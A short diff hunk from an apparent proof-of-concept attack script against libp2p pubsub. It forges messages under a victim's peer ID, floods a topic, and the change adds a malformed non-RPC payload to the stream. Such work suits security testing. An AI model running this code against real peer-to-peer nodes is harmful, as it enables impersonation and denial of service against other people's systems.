@@ -58,6 +58,7 @@ async def attack(address: str, topic: str) -> None:
                 author = base58.b58decode(VICTIM.peer_id)
                 flood.publish.add(data=b"x", topicIDs=[topic], from_id=author, seqno=number.to_bytes(8, "big"))
             await stream.write(encode_varint_prefixed(flood.SerializeToString()))
+            await stream.write(encode_varint_prefixed(b"\xff no RPC"))
             await trio.sleep(0.5)
         await host.close()
 
